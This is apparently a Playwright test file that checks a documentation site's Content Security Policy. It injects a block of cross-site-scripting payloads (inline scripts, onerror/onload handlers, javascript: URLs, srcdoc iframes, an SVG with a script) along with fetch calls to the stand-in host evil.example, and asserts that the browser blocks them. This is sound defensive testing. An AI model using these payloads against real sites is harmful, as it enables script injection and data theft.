"""What a page may do, told to a real browser: its own scripts run, and none that stands in the page itself.

The static site says so in a meta element, `make serve` in a header too.
"""

import re
from pathlib import Path

import pytest
from playwright.sync_api import expect
from server import ask, built, running

from mundap.live.web import FILE_POLICY, PAGE_POLICY

KINDS = [
    "",
    "qa/",
    "qa/self-attention/",
    "qa/self-attention/multihead-concat/",
    "notebooks/multihead/",
    "notebooks/gpu_benchmark/",
    "glossary/",
    "runs/",
    "benchmark/",
    "lab/",
    "photo-lab/",
    "contributing/",
    "tags/",
    "sources/",
    "404.html",
]
HURT = "window.hurt = (window.hurt || 0) + 1; fetch('http://evil.example/fetched')"
INJECTED = f"""
<script>{HURT}</script><script type="module">{HURT}</script>
<script src="http://evil.example/script.js"></script><script src="data:text/javascript,{HURT}"></script>
<img src="x" onerror="{HURT}"><svg onload="{HURT}"></svg><details open ontoggle="{HURT}"><summary>x</summary></details>
<input autofocus onfocus="{HURT}"><a id="link" href="javascript:{HURT}">x</a>
<img src="http://evil.example/picture.png"><video src="http://evil.example/film.mp4" autoplay></video>
<link rel="stylesheet" href="http://evil.example/style.css">
<iframe srcdoc="<script>parent.hurt = 1</script>"></iframe><iframe src="javascript:parent.hurt = 1"></iframe>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object>
<embed src="http://evil.example/embedded"><form id="form" action="http://evil.example/form"></form>
<div style="background: url(http://evil.example/background.png)">x</div>
"""


@pytest.fixture(scope="module")
def served(site, root, tmp_path_factory):
    """The whole site as `make serve` sends it."""
    folder = tmp_path_factory.mktemp("policy")
    (folder / "snippets").symlink_to(root / "snippets")
    with running(built(folder, folder, site), {}) as box:
        yield box


@pytest.fixture(params=["static", "served"])
def home(request):
    """The address of the first page, at a static host below a folder and at the live server."""
    return (
        request.getfixturevalue("site_url")
        if request.param == "static"
        else f"{request.getfixturevalue('served').url}/"
    )


def refused(page):
    """What the console says of the policy."""
    return [error for error in page.heard.errors if "Content Security Policy" in error]


def test_the_static_site_and_the_server_say_the_same(root, site):
    said = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', (site / "index.html").read_text())[1]
    assert set(PAGE_POLICY.split("; ")) - set(said.split("; ")) == {"frame-ancestors 'self'"}, "no meta can say this"
    assert set(said.split("; ")) < set(PAGE_POLICY.split("; "))
    scripts = next(part for part in said.split("; ") if part.startswith("script-src "))
    assert "unsafe-inline" not in scripts and "'unsafe-eval'" not in scripts


def test_no_page_holds_a_script(site):
    """But what carries anchors over from a page that has moved; and the policy stands before all else."""
    moved = site / "notebooks" / "gpu_benchmark" / "index.html"
    for path in site.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        inline = re.findall(r'<script(?![^>]*(?:\bsrc=|type="application/json"))[^>]*>', text)
        assert len(inline) == (path == moved), (path, inline)
        assert path == moved or re.search(r"<head>\s*<meta http-equiv=.Content-Security-Policy", text), path
        assert not re.search(r"<[^>]*\son\w+=", text), path


@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_of_page_keeps_to_it(home, page, kind):
    page.goto(home + kind)
    page.wait_for_load_state("networkidle")
    assert refused(page) == []


def test_the_colours_are_there_before_anything_is_painted(home, page_factory):
    """Those of the device, and those that were chosen, on the next page too."""
    page = page_factory(theme="dark")
    page.add_init_script(
        """document.addEventListener("readystatechange", () => {
            window.first ??= document.body.dataset.mdColorScheme;
        })"""
    )
    page.goto(home)
    assert page.evaluate("first") == "slate"
    page.locator("label[for=__palette_1]").click()  # as the device has it -> light
    expect(page.locator("body")).to_have_attribute("data-md-color-scheme", "default")
    page.goto(home + "qa/self-attention/multihead-concat/")
    assert page.evaluate("first") == "default" and refused(page) == []
    page.locator("label[for=__palette_2]").click()
    page.goto(home + "glossary/")
    assert page.evaluate("first") == "slate"


def test_search_and_lab_work(home, page):
    page.goto(home)
    page.keyboard.press("/")
    page.keyboard.insert_text("위치 임베딩")
    expect(page.get_by_role("option").first).to_be_visible(timeout=15_000)
    page.goto(home + "lab/")
    page.wait_for_load_state("networkidle")
    compiled = "WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => true)"
    assert page.evaluate(compiled) and refused(page) == []


def test_an_anchor_of_a_page_that_has_moved_arrives(home, page):
    page.goto(home + "notebooks/gpu_benchmark/#evidence")
    page.wait_for_url(re.compile(r"/notebooks/attention_cost/#evidence$"))


def test_what_is_injected_does_nothing(home, page):
    """Even where markup gets past every check: no script, no handler, no address of another host."""
    asked = []
    page.context.route("http://evil.example/**", lambda route: (asked.append(route.request.url), route.abort()))

    def inject(route):
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("<h1", INJECTED + "<h1", 1))

    page.route(home + "glossary/", inject)
    page.goto(home + "glossary/")
    page.wait_for_load_state("networkidle")
    assert page.locator("#link").count() == 1
    page.locator("#link").evaluate("(link) => link.click()")
    page.locator("#form").evaluate("(form) => form.submit()")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hurt=1>')")
    page.wait_for_timeout(500)
    assert page.evaluate("window.hurt") is None
    assert asked == [] and page.url == home + "glossary/"
    assert len(refused(page)) >= 10


def test_files_that_are_no_pages_are_in_a_sandbox(served, page, tmp_path, site):
    """A drawing opened by itself runs nothing and asks for nothing; in a page it still shows."""
    drawing = b"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>fetch('/_live/may')</script></svg>"
    name = next(path for path in site.rglob("*.svg")).relative_to(site).as_posix()
    for target in (name, "qa/index.html", "assets/js/page.js", "assets/js/search.js", "sitemap.xml", "_live/cells.css"):
        answer = ask(served, f"/{target}")
        is_page = Path(target).suffix in (".html", ".js")
        assert answer.headers["content-security-policy"] == (PAGE_POLICY if is_page else FILE_POLICY), target
    (tmp_path / "evil.svg").write_bytes(drawing)
    (tmp_path / "index.html").write_text("<!doctype html><title>t</title><body><img src='/evil.svg'></body>")
    with running(built(tmp_path, tmp_path, tmp_path), {}) as box:
        page.goto(box.url)
        assert page.evaluate("document.querySelector('img').naturalWidth") == 9
        page.goto(f"{box.url}/evil.svg")
        page.wait_for_timeout(300)
        assert not [url for url in page.heard.requests if url.endswith("/_live/may")]
        assert len(refused(page)) == 0 or "script" in refused(page)[0]


def test_a_notebook_can_still_be_downloaded(served, page):
    page.goto(f"{served.url}/notebooks/multihead/")
    with page.expect_download() as download:
        page.locator("a[download], a[href$='.ipynb']").first.click()
    assert download.value.suggested_filename.endswith(".ipynb")
